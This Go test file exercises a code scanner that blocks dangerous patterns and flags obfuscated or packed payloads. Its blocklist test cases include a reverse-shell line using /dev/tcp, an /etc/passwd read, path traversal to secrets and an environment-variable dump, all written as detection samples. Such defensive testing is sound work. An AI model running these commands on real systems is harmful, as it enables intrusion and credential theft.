package scanner

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestScanner(t *testing.T) *Scanner {
	t.Helper()
	s, err := NewScanner()
	require.NoError(t, err)
	return s
}

func TestScanCleanCodePasses(t *testing.T) {
	s := newTestScanner(t)

	result, err := s.Scan(context.Background(), []byte(`
func add(a, b int) int {
	return a + b
}
`))
	require.NoError(t, err)

	assert.Equal(t, VerdictPass, result.Verdict)
	assert.Empty(t, result.Violations)
	assert.Len(t, result.ContentHash, 64)
}

func TestScanStaticBlocklist(t *testing.T) {
	tests := []struct {
		name     string
		code     string
		category ViolationCategory
	}{
		{"eval", `result = eval(user_input)`, CategoryDynamicCode},
		{"dynamic import", `mod = __import__(name)`, CategoryDynamicCode},
		{"subprocess", `subprocess.run(["ls", "-la"])`, CategoryShellSpawn},
		{"child process", `const cp = require('child_process')`, CategoryShellSpawn},
		{"path traversal", `read("../../secrets.txt")`, CategoryFSEscape},
		{"passwd", `data = read_file("/etc/passwd")`, CategoryFSEscape},
		{"reverse shell", `run("bash -i >& /dev/tcp/10.0.0.1/4444")`, CategoryNetBackdoor},
		{"bind all", `server.listen(8080, "0.0.0.0")`, CategoryNetBackdoor},
		{"env dump", `for k, v in os.environ.items(): send(k, v)`, CategoryEnvExfil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := newTestScanner(t)
			result, err := s.Scan(context.Background(), []byte(tt.code))
			require.NoError(t, err)

			assert.Equal(t, VerdictRejected, result.Verdict)
			require.NotEmpty(t, result.Violations)
			categories := make([]ViolationCategory, 0, len(result.Violations))
			for _, v := range result.Violations {
				categories = append(categories, v.Category)
			}
			assert.Contains(t, categories, tt.category)
		})
	}
}

func TestScanBlocklistHasRequiredCoverage(t *testing.T) {
	assert.GreaterOrEqual(t, len(staticRules), 21)

	seen := map[ViolationCategory]bool{}
	for _, r := range staticRules {
		seen[r.category] = true
	}
	for _, c := range []ViolationCategory{
		CategoryDynamicCode, CategoryShellSpawn, CategoryFSEscape,
		CategoryNetBackdoor, CategoryEnvExfil,
	} {
		assert.True(t, seen[c], "blocklist missing category %s", c)
	}
}

func TestScanFlagsEncodedBlob(t *testing.T) {
	s := newTestScanner(t)

	code := `x := "` + strings.Repeat("QUJD", 40) + `"`
	result, err := s.Scan(context.Background(), []byte(code))
	require.NoError(t, err)

	assert.Equal(t, VerdictFlagged, result.Verdict)
	require.NotEmpty(t, result.Violations)
	assert.Equal(t, CategoryObfuscation, result.Violations[0].Category)
}

func TestScanRejectsPackedPayload(t *testing.T) {
	s := newTestScanner(t)

	// Every byte value with uniform frequency: 8 bits/byte of entropy.
	var b []byte
	for i := 0; i < 3; i++ {
		for c := 0; c < 256; c++ {
			b = append(b, byte(c))
		}
	}

	result, err := s.Scan(context.Background(), b)
	require.NoError(t, err)
	assert.Equal(t, VerdictRejected, result.Verdict)
}

func TestScanStaticRejectionSkipsSemanticPhase(t *testing.T) {
	s := newTestScanner(t)

	code := `eval(x); blob = "` + strings.Repeat("QUJD", 40) + `"`
	result, err := s.Scan(context.Background(), []byte(code))
	require.NoError(t, err)

	assert.Equal(t, VerdictRejected, result.Verdict)
	for _, v := range result.Violations {
		assert.NotEqual(t, CategoryObfuscation, v.Category,
			"semantic rules must not run after a blocklist hit")
	}
}

func TestScanCachesByContentHash(t *testing.T) {
	s := newTestScanner(t)
	ctx := context.Background()
	code := []byte(`func noop() {}`)

	first, err := s.Scan(ctx, code)
	require.NoError(t, err)
	second, err := s.Scan(ctx, code)
	require.NoError(t, err)

	assert.Same(t, first, second, "identical content must return the cached result")
}

func TestContentHashIsStable(t *testing.T) {
	a := ContentHash([]byte("hello"))
	b := ContentHash([]byte("hello"))
	c := ContentHash([]byte("hello!"))

	assert.Equal(t, a, b)
	assert.NotEqual(t, a, c)
}

func TestShannonEntropyBounds(t *testing.T) {
	assert.Zero(t, shannonEntropy(""))
	assert.Zero(t, shannonEntropy("aaaa"))
	assert.InDelta(t, 1.0, shannonEntropy("abab"), 0.001)
}
